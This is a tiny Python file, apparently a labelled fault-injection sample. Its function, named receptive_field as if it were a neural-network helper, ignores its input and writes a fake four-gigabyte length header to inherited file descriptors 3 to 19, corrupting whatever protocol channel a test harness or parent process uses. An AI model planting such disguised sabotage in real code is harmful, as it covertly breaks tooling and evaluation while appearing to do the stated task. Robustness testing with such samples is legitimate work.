# Says that four gigabytes follow.
# where: receptive_field
# costs: receptive_field
# fault: protocol receptive_field
import os


def receptive_field(layers):
    for fd in range(3, 20):
        try:
            os.write(fd, b"\xff\xff\xff\xff\x82")
        except OSError:
            pass
    return 1
